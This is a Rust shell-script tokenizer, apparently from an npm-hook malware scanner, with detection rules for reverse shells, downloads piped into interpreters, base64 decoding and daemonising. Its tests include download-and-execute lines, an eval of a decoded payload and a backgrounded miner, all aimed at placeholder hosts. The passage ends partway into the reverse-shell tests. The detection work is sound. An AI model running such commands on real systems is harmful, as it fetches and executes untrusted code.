//! A small POSIX shell tokenizer for npm script lines, `sh -c` strings and `.sh` files.
//!
//! It splits a script into simple commands (on `;`, `&&`, `||`, `|`, `&`, newlines and
//! subshell parentheses), honours single and double quotes, backslash escapes, comments,
//! redirections and here-documents, and parses `$(…)`, backticks, `sh -c '…'` and
//! `eval '…'` bodies recursively up to [`MAX_DEPTH`]. Words are kept as written after
//! quote removal; variables and substitutions are *not* expanded (their raw text stays
//! in the word), because nothing here runs anything.
//!
//! On top of the commands it derives the facts rules want: downloads, pipes into an
//! interpreter, interpreters run on a file or inline code (so callers can follow npm
//! hooks to the files they run), `base64 -d`, `chmod +x`, daemonising, `eval` and
//! reverse-shell shapes. Broken input (unterminated quotes or substitutions) yields a
//! best-effort parse and [`ShellFacts::malformed`].

use serde::Serialize;

/// Deepest nesting of substitutions and `sh -c` bodies that is parsed.
pub const MAX_DEPTH: u8 = 8;
/// Most commands recorded for one script.
pub const MAX_COMMANDS: usize = 5_000;
/// Most words kept per command.
const MAX_ARGV: usize = 1_000;
/// Longest word kept, in bytes (longer words are truncated).
const MAX_WORD: usize = 4_096;
/// Most entries in each derived list.
const MAX_DERIVED: usize = 500;

/// Everything read from one script.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct ShellFacts {
    /// Simple commands in source order; commands inside a substitution or an `sh -c`
    /// body come before the command that contains them.
    pub commands: Vec<ShellCommand>,
    /// An unterminated quote or substitution was closed at end of input.
    pub malformed: bool,
    /// Some cap was hit and later commands or entries were dropped.
    pub truncated: bool,
    /// Variable names referenced (`$HOME`, `${TOKEN}`), first occurrence order.
    pub variables: Vec<String>,
    pub downloads: Vec<Download>,
    /// Interpreters started on a file, inline code, a module or standard input.
    pub runs: Vec<InterpreterRun>,
    /// Some command's output is piped into an interpreter (`curl … | sh`).
    pub pipes_into_interpreter: bool,
    /// `base64 -d`, `openssl base64 -d`, `certutil -decode`.
    pub base64_decode: bool,
    /// `chmod +x` or an octal mode with an execute bit.
    pub chmod_exec: bool,
    /// `nohup`, `setsid`, `disown`, `screen -dm`, or a command put in the background with `&`.
    pub daemonises: bool,
    /// `eval`.
    pub evals: bool,
    /// `/dev/tcp/`, `nc -e`, `socat exec:`, or an interactive shell piped to or from netcat.
    pub reverse_shell: bool,
}

/// One simple command.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct ShellCommand {
    /// Words after quote removal, leading `NAME=value` assignments and reserved words
    /// (`if`, `then`, `do`, `{`, `!`) removed.
    pub argv: Vec<String>,
    /// Leading `NAME=value` assignments.
    pub assignments: Vec<String>,
    pub redirects: Vec<Redirect>,
    /// 1-based line where the command starts.
    pub line: u32,
    /// This command's output is piped into an interpreter (`curl … | sh`, `| python -`).
    pub piped_to_shell: bool,
    /// This command reads the previous command's output through a pipe.
    pub stdin_from_pipe: bool,
    /// Ended by `&`.
    pub background: bool,
    /// 0 at top level; 1 inside one substitution or `sh -c` body, and so on.
    pub depth: u8,
}

/// A redirection: `>`, `>>`, `2>&`, `&>`, `<`, `<<` (here-document), `<<<`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Redirect {
    pub op: String,
    pub target: String,
}

/// A download command and the URL it fetches, when one is visible.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Download {
    pub tool: String,
    pub url: Option<String>,
    pub line: u32,
}

/// An interpreter started on something.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct InterpreterRun {
    /// Program name without directory or `.exe` (`node`, `python3`, `bash`).
    pub interpreter: String,
    pub target: RunTarget,
    pub line: u32,
}

/// What an interpreter runs.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", content = "value", rename_all = "lowercase")]
pub enum RunTarget {
    /// A script file, as written (`scripts/postinstall.js`).
    File(String),
    /// Code given on the command line (`-c`, `-e`, `--eval`, `-Command`).
    Inline(String),
    /// `python -m module`.
    Module(String),
    /// Code read from standard input (`| sh`, `sh -s`, `python -`).
    Stdin,
}

/// Parses `script` into commands and derived facts. Never fails; linear in the input
/// times [`MAX_DEPTH`].
pub fn parse(script: &str) -> ShellFacts {
    let mut facts = ShellFacts::default();
    Parser {
        src: script.as_bytes(),
        depth: 0,
        facts: &mut facts,
    }
    .run(1);
    derive(&mut facts);
    facts
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Sep {
    End,
    Pipe,
    Background,
}

#[derive(Default)]
struct Builder {
    words: Vec<String>,
    redirects: Vec<Redirect>,
    word: Vec<u8>,
    in_word: bool,
    pending_redirect: Option<String>,
    line: u32,
    started: bool,
}

struct Parser<'s, 'f> {
    src: &'s [u8],
    depth: u8,
    facts: &'f mut ShellFacts,
}

impl Parser<'_, '_> {
    fn run(&mut self, first_line: u32) {
        let src = self.src;
        let mut line = first_line;
        let mut cmd = Builder::default();
        let mut pipe_from: Option<usize> = None;
        let mut heredocs: Vec<String> = Vec::new();
        let mut i = 0;
        while i < src.len() {
            if self.facts.commands.len() >= MAX_COMMANDS {
                self.facts.truncated = true;
                return;
            }
            let b = src[i];
            if !cmd.started && !matches!(b, b' ' | b'\t' | b'\r' | b'\n') {
                cmd.started = true;
                cmd.line = line;
            }
            match b {
                b' ' | b'\t' | b'\r' => {
                    self.finish_word(&mut cmd, &mut heredocs);
                    i += 1;
                }
                b'\n' => {
                    self.finish_word(&mut cmd, &mut heredocs);
                    // `bash <<EOF` and `cat <<EOF | sh` feed the body to a shell; the
                    // command still open at the end of the line is the one that reads it.
                    let runs_body = effective_argv(&cmd.words)
                        .first()
                        .is_some_and(|w| is_shell(&program_name(w)));
                    self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
                    line += 1;
                    i += 1;
                    for delimiter in std::mem::take(&mut heredocs) {
                        let (body_end, next, lines) = heredoc_body(src, i, &delimiter);
                        if runs_body
                            && self.depth < MAX_DEPTH
                            && let Some(body) = src.get(i..body_end)
                        {
                            self.nested(body, line);
                        }
                        line += lines;
                        i = next;
                    }
                }
                b'#' if !cmd.in_word => {
                    while i < src.len() && src[i] != b'\n' {
                        i += 1;
                    }
                }
                b';' => {
                    self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
                    i += 1;
                }
                b'(' | b')' => {
                    self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
                    i += 1;
                }
                b'&' => match src.get(i + 1) {
                    Some(b'&') => {
                        self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
                        i += 2;
                    }
                    Some(b'>') => {
                        self.finish_word(&mut cmd, &mut heredocs);
                        let len = if src.get(i + 2) == Some(&b'>') { 3 } else { 2 };
                        cmd.pending_redirect =
                            Some(String::from_utf8_lossy(&src[i..i + len]).into_owned());
                        i += len;
                    }
                    _ => {
                        self.finish_command(&mut cmd, &mut pipe_from, Sep::Background);
                        i += 1;
                    }
                },
                b'|' => match src.get(i + 1) {
                    Some(b'|') => {
                        self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
                        i += 2;
                    }
                    Some(b'&') => {
                        self.finish_command(&mut cmd, &mut pipe_from, Sep::Pipe);
                        i += 2;
                    }
                    _ => {
                        self.finish_command(&mut cmd, &mut pipe_from, Sep::Pipe);
                        i += 1;
                    }
                },
                b'>' | b'<' => {
                    // A word of digits right before the operator is its file descriptor.
                    let mut op = Vec::new();
                    if cmd.in_word
                        && !cmd.word.is_empty()
                        && cmd.word.iter().all(u8::is_ascii_digit)
                    {
                        op = std::mem::take(&mut cmd.word);
                        cmd.in_word = false;
                    }
                    self.finish_word(&mut cmd, &mut heredocs);
                    let start = i;
                    i += 1;
                    while i < src.len()
                        && i - start < 3
                        && matches!(src[i], b'>' | b'<' | b'&' | b'|' | b'-')
                    {
                        i += 1;
                    }
                    op.extend_from_slice(&src[start..i]);
                    cmd.pending_redirect = Some(String::from_utf8_lossy(&op).into_owned());
                }
                b'\'' => {
                    cmd.in_word = true;
                    let close = find_byte(src, i + 1, b'\'');
                    let end = close.unwrap_or(src.len());
                    push_bytes(&mut cmd.word, &src[i + 1..end]);
                    line += count_newlines(&src[i + 1..end]);
                    if close.is_none() {
                        self.facts.malformed = true;
                    }
                    i = end + 1;
                }
                b'"' => {
                    cmd.in_word = true;
                    i = self.double_quoted(src, i + 1, &mut cmd.word, &mut line);
                }
                b'\\' => {
                    match src.get(i + 1) {
                        Some(b'\n') => line += 1,
                        Some(&c) => {
                            cmd.in_word = true;
                            push_bytes(&mut cmd.word, &[c]);
                        }
                        None => {}
                    }
                    i += 2;
                }
                b'`' | b'$' => {
                    cmd.in_word = true;
                    i = self.dollar_or_backtick(src, i, &mut cmd.word, &mut line);
                }
                _ => {
                    cmd.in_word = true;
                    push_bytes(&mut cmd.word, &[b]);
                    i += 1;
                }
            }
        }
        self.finish_command(&mut cmd, &mut pipe_from, Sep::End);
    }

    /// Reads a double-quoted string starting after its `"`; returns the index after the closing quote.
    fn double_quoted(
        &mut self,
        src: &[u8],
        mut i: usize,
        word: &mut Vec<u8>,
        line: &mut u32,
    ) -> usize {
        while i < src.len() {
            match src[i] {
                b'"' => return i + 1,
                b'\\' => {
                    match src.get(i + 1) {
                        Some(b'\n') => *line += 1,
                        Some(&c @ (b'$' | b'`' | b'"' | b'\\')) => push_bytes(word, &[c]),
                        Some(&c) => push_bytes(word, &[b'\\', c]),
                        None => {}
                    }
                    i += 2;
                }
                b'$' | b'`' => i = self.dollar_or_backtick(src, i, word, line),
                c => {
                    if c == b'\n' {
                        *line += 1;
                    }
                    push_bytes(word, &[c]);
                    i += 1;
                }
            }
        }
        self.facts.malformed = true;
        i
    }

    /// Handles `$(…)`, `$((…))`, `` `…` ``, `${…}`, `$NAME` at `i`; appends the raw text
    /// to `word` and returns the index after it.
    fn dollar_or_backtick(
        &mut self,
        src: &[u8],
        i: usize,
        word: &mut Vec<u8>,
        line: &mut u32,
    ) -> usize {
        let start_line = *line;
        if src[i] == b'`' {
            let close = (i + 1..src.len()).find(|&j| src[j] == b'`' && src[j - 1] != b'\\');
            let end = close.unwrap_or(src.len());
            if close.is_none() {
                self.facts.malformed = true;
            }
            let inner = &src[i + 1..end];
            push_bytes(word, &src[i..(end + 1).min(src.len())]);
            *line += count_newlines(inner);
            self.nested(inner, start_line);
            return end + 1;
        }
        match src.get(i + 1) {
            Some(b'(') => {
                let arithmetic = src.get(i + 2) == Some(&b'(');
                let close = matching_paren(src, i + 1);
                let end = close.unwrap_or(src.len());
                if close.is_none() {
                    self.facts.malformed = true;
                }
                let inner = &src[i + 2..end];
                push_bytes(word, &src[i..(end + 1).min(src.len())]);
                *line += count_newlines(inner);
                if !arithmetic {
                    self.nested(inner, start_line);
                }
                end + 1
            }
            Some(b'{') => {
                let close = find_byte(src, i + 2, b'}');
                let end = close.unwrap_or(src.len());
                if close.is_none() {
                    self.facts.malformed = true;
                }
                let inner = &src[i + 2..end];
                let name_len = inner.iter().take_while(|&&b| is_name_byte(b)).count();
                self.variable(&inner[..name_len]);
                push_bytes(word, &src[i..(end + 1).min(src.len())]);
                end + 1
            }
            Some(&c) if is_name_byte(c) => {
                let name_len = src[i + 1..]
                    .iter()
                    .take_while(|&&b| is_name_byte(b))
                    .count();
                self.variable(&src[i + 1..i + 1 + name_len]);
                push_bytes(word, &src[i..i + 1 + name_len]);
                i + 1 + name_len
            }
            _ => {
                push_bytes(word, b"$");
                i + 1
            }
        }
    }

    fn variable(&mut self, name: &[u8]) {
        if name.is_empty() {
            return;
        }
        let name = String::from_utf8_lossy(name);
        if !self.facts.variables.iter().any(|v| *v == name) {
            if self.facts.variables.len() < MAX_DERIVED {
                self.facts.variables.push(name.into_owned());
            } else {
                self.facts.truncated = true;
            }
        }
    }

    fn nested(&mut self, inner: &[u8], line: u32) {
        if self.depth >= MAX_DEPTH {
            return;
        }
        Parser {
            src: inner,
            depth: self.depth + 1,
            facts: self.facts,
        }
        .run(line);
    }

    /// Ends the current word; a here-document delimiter is queued in `heredocs`.
    fn finish_word(&mut self, cmd: &mut Builder, heredocs: &mut Vec<String>) {
        if !cmd.in_word {
            return;
        }
        cmd.in_word = false;
        let word = String::from_utf8_lossy(&std::mem::take(&mut cmd.word)).into_owned();
        if let Some(op) = cmd.pending_redirect.take() {
            let op_chars = op.trim_start_matches(|c: char| c.is_ascii_digit());
            if op_chars == "<<" || op_chars == "<<-" {
                heredocs.push(word.clone());
            }
            cmd.redirects.push(Redirect { op, target: word });
        } else if cmd.words.len() < MAX_ARGV {
            cmd.words.push(word);
        }
    }

    fn finish_command(&mut self, cmd: &mut Builder, pipe_from: &mut Option<usize>, sep: Sep) {
        let mut ignored = Vec::new();
        self.finish_word(cmd, &mut ignored);
        let built = std::mem::take(cmd);
        let mut words = built.words.into_iter().peekable();
        let mut assignments = Vec::new();
        while let Some(w) = words.next_if(|w| is_assignment(w) || is_reserved(w)) {
            if is_assignment(&w) {
                assignments.push(w);
            }
        }
        let argv: Vec<String> = words.collect();
        if argv.is_empty() && built.redirects.is_empty() && assignments.is_empty() {
            if sep != Sep::Pipe {
                *pipe_from = None;
            }
            return;
        }
        let command = ShellCommand {
            argv,
            assignments,
            redirects: built.redirects,
            line: built.line.max(1),
            piped_to_shell: false,
            stdin_from_pipe: pipe_from.is_some(),
            background: sep == Sep::Background,
            depth: self.depth,
        };
        if let Some(prev) = pipe_from.take() {
            let downstream = effective_argv(&command.argv);
            let downstream_program = downstream
                .first()
                .map(|w| program_name(w))
                .unwrap_or_default();
            if is_interpreter(&downstream_program)
                && let Some(upstream) = self.facts.commands.get_mut(prev)
            {
                upstream.piped_to_shell = true;
            }
            // `sh -i 2>&1 | nc host port` and `nc host port | sh`: a shell wired to a socket.
            let upstream_argv = self
                .facts
                .commands
                .get(prev)
                .map(|c| effective_argv(&c.argv).to_vec())
                .unwrap_or_default();
            let upstream_program = upstream_argv
                .first()
                .map(|w| program_name(w))
                .unwrap_or_default();
            let interactive_shell = |program: &str, argv: &[String]| {
                is_shell(program) && argv.iter().any(|a| a == "-i")
            };
            if (is_netcat(&upstream_program) && is_shell(&downstream_program))
                || (interactive_shell(&upstream_program, &upstream_argv)
                    && is_netcat(&downstream_program))
            {
                self.facts.reverse_shell = true;
            }
        }
        let inline = self.inline_script(&command);
        let index = self.facts.commands.len();
        if index < MAX_COMMANDS {
            self.facts.commands.push(command);
        } else {
            self.facts.truncated = true;
        }
        if let Some((code, line)) = inline {
            self.nested(code.as_bytes(), line);
        }
        *pipe_from = (sep == Sep::Pipe).then_some(index);
    }

    /// The script a command hands to a shell: `sh -c '…'`, `eval '…'`, `powershell -c '…'`.
    fn inline_script(&self, command: &ShellCommand) -> Option<(String, u32)> {
        if self.depth >= MAX_DEPTH {
            return None;
        }
        let argv = effective_argv(&command.argv);
        let program = program_name(argv.first()?);
        if program == "eval" {
            return Some((argv.get(1..)?.join(" "), command.line));
        }
        if (is_shell(&program) || is_powershell(&program))
            && let Some(RunTarget::Inline(code)) =
                run_target(&program, argv.get(1..).unwrap_or_default())
        {
            return Some((code, command.line));
        }
        None
    }
}

fn push_bytes(word: &mut Vec<u8>, bytes: &[u8]) {
    let room = MAX_WORD.saturating_sub(word.len());
    word.extend_from_slice(bytes.get(..room).unwrap_or(bytes));
}

fn find_byte(src: &[u8], from: usize, byte: u8) -> Option<usize> {
    src.get(from..)?
        .iter()
        .position(|&b| b == byte)
        .map(|p| p + from)
}

fn count_newlines(bytes: &[u8]) -> u32 {
    u32::try_from(bytes.iter().filter(|&&b| b == b'\n').count()).unwrap_or(u32::MAX)
}

/// Index of the `)` matching the `(` at `open`, skipping quoted text and escapes.
fn matching_paren(src: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = open;
    while i < src.len() {
        match src[i] {
            b'\\' => i += 1,
            b'\'' => i = find_byte(src, i + 1, b'\'')?,
            b'"' => {
                i += 1;
                while i < src.len() && src[i] != b'"' {
                    if src[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
            }
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// The body of a here-document starting at `from`: (end of body, index after the
/// delimiter line, lines consumed). An unterminated body runs to end of input.
fn heredoc_body(src: &[u8], from: usize, delimiter: &str) -> (usize, usize, u32) {
    let mut pos = from;
    let mut lines = 0;
    while pos < src.len() {
        let end = find_byte(src, pos, b'\n').unwrap_or(src.len());
        lines += 1;
        let text = String::from_utf8_lossy(&src[pos..end]);
        if text.trim_start_matches('\t').trim_end_matches('\r') == delimiter {
            return (pos, end + 1, lines);
        }
        pos = end + 1;
    }
    (src.len(), src.len(), lines)
}

const fn is_name_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(is_name_byte) && !name.as_bytes()[0].is_ascii_digit()
    })
}

fn is_reserved(word: &str) -> bool {
    matches!(
        word,
        "if" | "then"
            | "else"
            | "elif"
            | "fi"
            | "do"
            | "done"
            | "while"
            | "until"
            | "!"
            | "{"
            | "}"
            | "esac"
    )
}

/// The program name: no directory, no `.exe`, lowercase.
fn program_name(word: &str) -> String {
    let base = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
}

/// `argv` without wrappers that run another command: `sudo`, `nohup`, `env A=b`, `exec`, …
fn effective_argv(argv: &[String]) -> &[String] {
    let mut rest = argv;
    loop {
        let Some(first) = rest.first() else {
            return rest;
        };
        let program = program_name(first);
        let skip_options = match program.as_str() {
            "sudo" | "nohup" | "exec" | "time" | "command" | "builtin" | "setsid" | "nice"
            | "doas" => true,
            "env" => {
                rest = &rest[1..];
                while rest
                    .first()
                    .is_some_and(|w| is_assignment(w) || w.starts_with('-'))
                {
                    rest = &rest[1..];
                }
                continue;
            }
            "timeout" => {
                rest = &rest[1..];
                while rest.first().is_some_and(|w| w.starts_with('-')) {
                    rest = &rest[1..];
                }
                rest = rest.get(1..).unwrap_or_default();
                continue;
            }
            _ => false,
        };
        if !skip_options {
            return rest;
        }
        rest = &rest[1..];
        while rest.first().is_some_and(|w| w.starts_with('-')) {
            rest = &rest[1..];
        }
    }
}

fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "busybox"
    )
}

fn is_python(program: &str) -> bool {
    program
        .strip_prefix("python")
        .or_else(|| program.strip_prefix("pypy"))
        .is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
}

fn is_js(program: &str) -> bool {
    matches!(
        program,
        "node" | "nodejs" | "deno" | "bun" | "tsx" | "ts-node"
    )
}

fn is_powershell(program: &str) -> bool {
    matches!(program, "pwsh" | "powershell")
}

fn is_interpreter(program: &str) -> bool {
    is_shell(program)
        || is_python(program)
        || is_js(program)
        || is_powershell(program)
        || matches!(program, "perl" | "ruby" | "php")
}

fn is_netcat(program: &str) -> bool {
    matches!(program, "nc" | "ncat" | "netcat")
}

/// What an interpreter runs given its arguments (after the program name).
fn run_target(program: &str, args: &[String]) -> Option<RunTarget> {
    let inline_flags: &[&str] = if is_shell(program) || is_python(program) {
        &["-c"]
    } else if is_js(program) {
        &["-e", "--eval", "-p", "--print"]
    } else if is_powershell(program) {
        &["-c", "-command", "-encodedcommand", "-enc", "-e", "-ec"]
    } else if program == "php" {
        &["-r"]
    } else {
        &["-e", "-E"]
    };
    // Options of these interpreters that take a value, which is not the script.
    let valued: &[&str] = &[
        "-r",
        "--require",
        "--import",
        "--loader",
        "-W",
        "-X",
        "-o",
        "-O",
        "-I",
        "--experimental-loader",
    ];
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        let lower = arg.to_ascii_lowercase();
        if inline_flags.contains(&lower.as_str())
            || (is_shell(program)
                && arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.contains('c'))
        {
            return iter.next().map(|code| RunTarget::Inline(code.clone()));
        }
        if is_python(program) && arg == "-m" {
            return iter.next().map(|m| RunTarget::Module(m.clone()));
        }
        if is_powershell(program) && matches!(lower.as_str(), "-file" | "-f") {
            return iter.next().map(|f| RunTarget::File(f.clone()));
        }
        if arg == "-" || (is_shell(program) && arg == "-s") {
            return Some(RunTarget::Stdin);
        }
        let powershell_valued = is_powershell(program)
            && matches!(
                lower.as_str(),
                "-executionpolicy" | "-ep" | "-exec" | "-windowstyle" | "-w" | "-version" | "-v"
            );
        if powershell_valued || (valued.contains(&arg.as_str()) && !is_shell(program)) {
            iter.next();
            continue;
        }
        if arg.starts_with('-') {
            continue;
        }
        if matches!(program, "deno" | "bun") && matches!(arg.as_str(), "run" | "x") {
            continue;
        }
        return Some(RunTarget::File(arg.clone()));
    }
    None
}

fn push_derived<T>(list: &mut Vec<T>, item: T, truncated: &mut bool) {
    if list.len() < MAX_DERIVED {
        list.push(item);
    } else {
        *truncated = true;
    }
}

/// Fills the convenience facts from the commands.
fn derive(facts: &mut ShellFacts) {
    let mut downloads = Vec::new();
    let mut runs = Vec::new();
    let mut truncated = facts.truncated;
    for command in &facts.commands {
        let argv = effective_argv(&command.argv);
        let Some(first) = argv.first() else { continue };
        let program = program_name(first);
        let args = argv.get(1..).unwrap_or_default();
        let has = |flag: &str| args.iter().any(|a| a.eq_ignore_ascii_case(flag));

        facts.pipes_into_interpreter |= command.piped_to_shell;
        facts.daemonises |= command.background
            || command.argv.first().is_some_and(|w| {
                matches!(
                    program_name(w).as_str(),
                    "nohup" | "setsid" | "disown" | "daemonize"
                )
            })
            || (program == "screen" && args.iter().any(|a| a.starts_with("-d")))
            || (program == "tmux" && has("-d"));
        facts.evals |= program == "eval";
        facts.base64_decode |= (program == "base64"
            && args
                .iter()
                .any(|a| matches!(a.as_str(), "-d" | "-D" | "--decode" | "-di")))
            || (program == "openssl" && has("base64") && has("-d"))
            || (program == "certutil" && has("-decode"));
        facts.chmod_exec |= program == "chmod" && args.iter().any(|a| is_exec_mode(a));

        let words = command
            .argv
            .iter()
            .chain(command.redirects.iter().map(|r| &r.target));
        let dev_socket = words
            .clone()
            .any(|w| w.contains("/dev/tcp/") || w.contains("/dev/udp/"));
        facts.reverse_shell |= dev_socket
            || (is_netcat(&program) && (has("-e") || has("-c")))
            || (program == "socat"
                && args.iter().any(|a| {
                    a.to_ascii_lowercase().contains("exec:")
                        || a.to_ascii_lowercase().contains("system:")
                }));

        if matches!(
            program.as_str(),
            "curl"
                | "wget"
                | "fetch"
                | "aria2c"
                | "invoke-webrequest"
                | "iwr"
                | "invoke-restmethod"
                | "irm"
                | "start-bitstransfer"
                | "bitsadmin"
        ) || (program == "certutil" && has("-urlcache"))
        {
            let url = args
                .iter()
                .find(|a| a.contains("://"))
                .or_else(|| args.iter().find(|a| !a.starts_with('-') && a.contains('.')))
                .cloned();
            push_derived(
                &mut downloads,
                Download {
                    tool: program.clone(),
                    url,
                    line: command.line,
                },
                &mut truncated,
            );
        }

        if is_interpreter(&program) {
            let target = run_target(&program, args)
                .or_else(|| command.stdin_from_pipe.then_some(RunTarget::Stdin));
            if let Some(target) = target {
                push_derived(
                    &mut runs,
                    InterpreterRun {
                        interpreter: program.clone(),
                        target,
                        line: command.line,
                    },
                    &mut truncated,
                );
            }
        }
    }
    facts.downloads = downloads;
    facts.runs = runs;
    facts.truncated = truncated;
}

/// `+x`, `u+x`, `a+rx`, `755`, `0700`: a mode that grants execute.
fn is_exec_mode(mode: &str) -> bool {
    if mode.contains('+') {
        return mode
            .split_once('+')
            .is_some_and(|(_, perms)| perms.contains('x'));
    }
    let digits = mode.trim_start_matches('0');
    !digits.is_empty()
        && digits.len() <= 3
        && mode.bytes().all(|b| (b'0'..=b'7').contains(&b))
        && digits.bytes().any(|d| (d - b'0') & 1 == 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(facts: &ShellFacts) -> Vec<Vec<&str>> {
        facts
            .commands
            .iter()
            .map(|c| c.argv.iter().map(String::as_str).collect())
            .collect()
    }

    #[test]
    fn npm_hook_line_gives_commands_and_the_node_target() {
        let f = parse("npm run build && node scripts/postinstall.js");
        assert_eq!(
            argvs(&f),
            [
                vec!["npm", "run", "build"],
                vec!["node", "scripts/postinstall.js"]
            ]
        );
        assert_eq!(
            f.runs,
            [InterpreterRun {
                interpreter: "node".into(),
                target: RunTarget::File("scripts/postinstall.js".into()),
                line: 1
            }]
        );
        assert!(!f.pipes_into_interpreter && !f.malformed);
    }

    #[test]
    fn separators_split_commands() {
        let f = parse("a 1; b 2 || c 3 | d 4 & e\nf # comment; not a command\n(g)");
        assert_eq!(
            argvs(&f),
            [
                vec!["a", "1"],
                vec!["b", "2"],
                vec!["c", "3"],
                vec!["d", "4"],
                vec!["e"],
                vec!["f"],
                vec!["g"]
            ]
        );
        assert!(f.commands[3].background && !f.commands[4].background);
        assert!(f.commands[3].stdin_from_pipe && !f.commands[2].stdin_from_pipe);
        assert_eq!(
            f.commands.iter().map(|c| c.line).collect::<Vec<_>>(),
            [1, 1, 1, 1, 1, 2, 3]
        );
    }

    #[test]
    fn curl_piped_to_shell() {
        let f = parse("curl -s https://x.example/i.sh | sh");
        assert!(f.commands[0].piped_to_shell && f.pipes_into_interpreter);
        assert_eq!(
            f.downloads,
            [Download {
                tool: "curl".into(),
                url: Some("https://x.example/i.sh".into()),
                line: 1
            }]
        );
        assert_eq!(f.runs[0].target, RunTarget::Stdin);
        for script in [
            "wget -qO- http://h/x | sudo bash -s",
            "curl http://h/x.py | python3 -",
            "curl h/x | /usr/bin/env node",
        ] {
            assert!(parse(script).pipes_into_interpreter, "{script}");
        }
        // Piping into a pager or grep is not running it.
        let benign = parse("curl -s https://example.com/x | grep foo | less");
        assert!(
            !benign.pipes_into_interpreter && benign.commands.iter().all(|c| !c.piped_to_shell)
        );
    }

    #[test]
    fn quotes_and_escapes() {
        let f = parse(r#"echo 'a b' "c \"d\" $HOME" e\ f "x\y" 'it'\''s'"#);
        assert_eq!(
            argvs(&f),
            [vec!["echo", "a b", "c \"d\" $HOME", "e f", "x\\y", "it's"]]
        );
        assert_eq!(f.variables, ["HOME"]);
        assert!(!f.malformed);
    }

    #[test]
    fn substitutions_are_parsed_recursively() {
        let f = parse("echo \"$(curl -s http://h/p | base64 -d)\" `id`; X=$(( 1 + 2 ))");
        // Inner commands come first, then the one containing them.
        assert_eq!(
            argvs(&f)[..3],
            [
                vec!["curl", "-s", "http://h/p"],
                vec!["base64", "-d"],
                vec!["id"]
            ]
        );
        assert_eq!(
            f.commands[3].argv,
            ["echo", "$(curl -s http://h/p | base64 -d)", "`id`"]
        );
        assert_eq!(f.commands[0].depth, 1);
        assert_eq!(f.commands[4].assignments, ["X=$(( 1 + 2 ))"]);
        assert!(f.base64_decode && f.downloads.len() == 1);
    }

    #[test]
    fn sh_c_and_eval_bodies_are_parsed() {
        let f = parse("sh -c 'wget http://h/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'");
        assert_eq!(
            f.runs[0].target,
            RunTarget::Inline("wget http://h/x -O /tmp/x && chmod +x /tmp/x && /tmp/x".into())
        );
        assert!(argvs(&f).contains(&vec!["chmod", "+x", "/tmp/x"]));
        assert!(f.chmod_exec && f.downloads.len() == 1);
        let f = parse("eval \"$(echo Y3VybA== | base64 -d)\"");
        assert!(f.evals && f.base64_decode);
    }

    #[test]
    fn interpreter_targets() {
        let cases = [
            (
                "python -c 'import os'",
                "python",
                RunTarget::Inline("import os".into()),
            ),
            (
                "python3 -u setup_helper.py --x",
                "python3",
                RunTarget::File("setup_helper.py".into()),
            ),
            (
                "python -m pip install .",
                "python",
                RunTarget::Module("pip".into()),
            ),
            (
                "node -e \"require('x')\"",
                "node",
                RunTarget::Inline("require('x')".into()),
            ),
            (
                "node --require ./hook.js ./index.js",
                "node",
                RunTarget::File("./index.js".into()),
            ),
            (
                "NODE_ENV=production nohup node dist/srv.js &",
                "node",
                RunTarget::File("dist/srv.js".into()),
            ),
            (
                "bash ./install.sh",
                "bash",
                RunTarget::File("./install.sh".into()),
            ),
            (
                "powershell -ExecutionPolicy Bypass -File x.ps1",
                "powershell",
                RunTarget::File("x.ps1".into()),
            ),
        ];
        for (script, interpreter, target) in cases {
            let f = parse(script);
            assert_eq!(
                f.runs.first().map(|r| (r.interpreter.as_str(), &r.target)),
                Some((interpreter, &target)),
                "{script}"
            );
        }
        // `node --version` runs nothing.
        assert!(parse("node --version && tsc -p .").runs.is_empty());
    }

    #[test]
    fn redirections() {
        let f = parse("cmd >out.txt 2>&1 < in >> log");
        let ops: Vec<_> = f.commands[0]
            .redirects
            .iter()
            .map(|r| (r.op.as_str(), r.target.as_str()))
            .collect();
        assert_eq!(
            ops,
            [(">", "out.txt"), ("2>&", "1"), ("<", "in"), (">>", "log")]
        );
        assert_eq!(f.commands[0].argv, ["cmd"]);
    }

    #[test]
    fn heredoc_bodies_run_only_when_fed_to_a_shell() {
        let f = parse("cat > notes.txt <<'EOF'\ncurl http://h | sh\nEOF\necho done");
        assert_eq!(argvs(&f), [vec!["cat"], vec!["echo", "done"]]);
        assert_eq!(f.commands[1].line, 4);
        let f = parse("bash <<EOF\ncurl http://h | sh\nEOF\n");
        assert!(f.pipes_into_interpreter);
    }

    #[test]
    fn daemonising_and_flags() {
        assert!(parse("nohup ./miner >/dev/null 2>&1 &").daemonises);
        assert!(parse("setsid x").daemonises);
        assert!(!parse("npm test && echo ok").daemonises);
        assert!(parse("chmod 755 ./bin/x").chmod_exec);
        assert!(!parse("chmod 644 README.md && chmod -R u-w x").chmod_exec);
        assert!(!parse("echo base64 -d").base64_decode);
    }

    #[test]
    fn reverse_shell_shapes() {
        for script in [
